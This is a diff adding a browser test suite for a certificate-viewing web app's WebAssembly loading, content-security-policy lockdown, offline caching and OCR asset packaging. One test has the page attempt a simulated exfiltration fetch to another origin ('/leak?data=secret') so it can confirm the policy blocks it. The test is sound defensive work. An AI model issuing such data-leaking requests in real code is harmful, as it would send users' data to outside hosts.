@@ -1,0 +1,108 @@
+// The app's WebAssembly is a binary file of the site. The page's CSP (`connect-src 'none'`) forbids
+// the page every fetch, so a dedicated worker of the site (static/wasm-worker.js) fetches and
+// compiles it and posts the module back; the page still cannot fetch anything, not even that file.
+// Hosts that serve .wasm with another content type still work, online and offline.
+import { test, before, after } from 'node:test';
+import assert from 'node:assert/strict';
+import fs from 'node:fs';
+import path from 'node:path';
+import { serveSite, serveOtherOrigin, launch, openApp, fixture, dist } from './harness.mjs';
+
+const LEAF = '4A01D5D69F89E51753A6F9AC9CAD36246DB998761B4C13475F18517EFF2487A8';
+const wasmName = () => fs.readdirSync(dist).filter((f) => f.endsWith('.wasm'));
+let browser;
+
+before(async () => { browser = await launch(); });
+after(async () => { await browser?.close(); });
+
+async function pasteShowsTheLeaf(page) {
+  await page.fill('#input', fixture('apple/leaf-device-apsd-2018-expired-sha1.pem'));
+  await page.locator(`[data-sha256="${LEAF}"]`).waitFor();
+}
+
+/** What the page gets when it fetches `url` itself: 'sent' or 'blocked', and the CSP violations. */
+function fetchFromPage(page, url) {
+  return page.evaluate(async (target) => {
+    const violations = [];
+    const seen = (e) => violations.push(e.violatedDirective);
+    document.addEventListener('securitypolicyviolation', seen);
+    let outcome;
+    try { await fetch(target); outcome = 'sent'; } catch { outcome = 'blocked'; }
+    await new Promise((r) => setTimeout(r, 100));
+    document.removeEventListener('securitypolicyviolation', seen);
+    return { outcome, violations };
+  }, url);
+}
+
+test('dist/ ships the wasm as a binary file that the service worker precaches', () => {
+  const names = wasmName();
+  assert.equal(names.length, 1, names.join(', '));
+  const wasm = fs.readFileSync(path.join(dist, names[0]));
+  assert.deepEqual([...wasm.subarray(0, 4)], [0x00, 0x61, 0x73, 0x6d], 'wasm magic');
+  assert.match(fs.readFileSync(path.join(dist, 'index.html'), 'utf8'), new RegExp(`data-wasm="\\./${names[0].replace(/\./g, '\\.')}"`));
+  // No script carries the module as text any more.
+  for (const f of fs.readdirSync(dist).filter((n) => n.endsWith('.js'))) {
+    assert.ok(fs.statSync(path.join(dist, f)).size < wasm.length / 4, `${f} is as large as a wasm module`);
+  }
+  assert.ok(fs.readFileSync(path.join(dist, 'sw.js'), 'utf8').includes(`"./${names[0]}"`), 'sw.js precaches the wasm');
+});
+
+test('a worker streams the wasm in; the page itself still cannot fetch it or anything else', async () => {
+  const site = await serveSite();
+  const other = await serveOtherOrigin();
+  try {
+    const { page, context, requests, errors } = await openApp(browser, site.url);
+    await pasteShowsTheLeaf(page);
+    assert.equal(await page.getAttribute('html', 'data-wasm'), 'streamed');
+    const [name] = wasmName();
+    assert.ok(site.hits.some((h) => h.endsWith('/' + name)), `the site never served ${name}: ${site.hits}`);
+    for (const r of requests) assert.ok(r.startsWith(site.url), `unexpected request ${r}`);
+    // The site's own .wasm, fetched by the page rather than by the worker: blocked.
+    const before = site.hits.length;
+    const own = await fetchFromPage(page, `${site.url}${name}?from=page`);
+    assert.equal(own.outcome, 'blocked');
+    assert.ok(own.violations.some((v) => v.startsWith('connect-src')), JSON.stringify(own.violations));
+    assert.ok(!site.hits.slice(before).some((h) => h.includes('from=page')), 'the page reached its own server');
+    const away = await fetchFromPage(page, `${other.origin}/leak?data=secret`);
+    assert.equal(away.outcome, 'blocked');
+    assert.deepEqual(other.hits, []);
+    assert.deepEqual(errors, []);
+    await context.close();
+  } finally {
+    await site.close();
+    await other.close();
+  }
+});
+
+test('a host that serves .wasm as application/octet-stream still works, and offline too', async () => {
+  const site = await serveSite({ types: { '.wasm': 'application/octet-stream' } });
+  try {
+    const { page, context, errors } = await openApp(browser, site.url);
+    await pasteShowsTheLeaf(page);
+    assert.equal(await page.getAttribute('html', 'data-wasm'), 'compiled');
+    // The service worker keeps the file with the host's content type; offline it still compiles.
+    await page.evaluate(async () => { await navigator.serviceWorker.ready; });
+    await page.reload();
+    await page.waitForFunction(() => navigator.serviceWorker.controller !== null);
+    await context.setOffline(true);
+    await page.reload();
+    await page.waitForSelector('#input');
+    await pasteShowsTheLeaf(page);
+    assert.equal(await page.getAttribute('html', 'data-wasm'), 'compiled');
+    assert.deepEqual(errors, []);
+    await context.close();
+  } finally {
+    await site.close();
+  }
+});
+
+test('dist/ocr ships one OCR core, as binary wasm, and the language data gzip-compressed', () => {
+  const ocr = path.join(dist, 'ocr');
+  const all = fs.readdirSync(ocr, { recursive: true }).filter((f) => fs.statSync(path.join(ocr, f)).isFile()).sort();
+  assert.deepEqual(all.filter((f) => /tesseract-core/.test(f)), ['tesseract-core-simd-lstm.js', 'tesseract-core-simd-lstm.wasm']);
+  assert.deepEqual(all.filter((f) => f.startsWith('lang')), [path.join('lang', 'eng.traineddata.gz')]);
+  const gz = fs.readFileSync(path.join(ocr, 'lang', 'eng.traineddata.gz'));
+  assert.deepEqual([...gz.subarray(0, 2)], [0x1f, 0x8b], 'gzip magic');
+  const core = fs.readFileSync(path.join(ocr, 'tesseract-core-simd-lstm.wasm'));
+  assert.deepEqual([...core.subarray(0, 4)], [0x00, 0x61, 0x73, 0x6d], 'wasm magic');
+});
